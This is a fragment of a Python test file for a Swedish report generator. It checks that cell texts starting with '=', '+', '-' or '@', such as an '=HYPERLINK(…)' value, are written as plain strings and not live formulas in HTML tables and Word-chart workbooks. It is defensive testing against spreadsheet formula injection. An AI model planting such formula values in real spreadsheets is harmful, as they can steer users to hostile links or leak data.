        for style, text in cells:
            value = html.unescape(text.decode())
            if value.startswith(("=", "+", "-", "@")):
                found.setdefault(value, set()).add(bool(style) and prefixed[int(style)])
    assert found == {text: {True} for text in FORMULAS}


def test_a_word_chart_s_workbook_holds_category_names_as_text() -> None:
    """The workbook behind a Word chart names its categories and series with the report's
    texts: '=HYPERLINK(…)' stays a string, not a formula."""
    import python_calamine

    from slutrapport.chartfacts import Bars, Series
    from slutrapport.wordcharts import workbook

    bars = Bars("", "", True, (FORMULAS[1], "Vännäs"),
                (Series(FORMULAS[0], (Decimal(3), Decimal(4)), ("ljus", "ljus")),),
                "", 1.0, 1.0)
    blob = workbook(bars)
    with zipfile.ZipFile(io.BytesIO(blob)) as z:
        assert re.findall(rb"<f[\s>/]", z.read("xl/worksheets/sheet1.xml")) == []
    rows = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(blob)) \
        .get_sheet_by_index(0).to_python()
    assert rows == [["", FORMULAS[0]], [FORMULAS[1], 3.0], ["Vännäs", 4.0]]
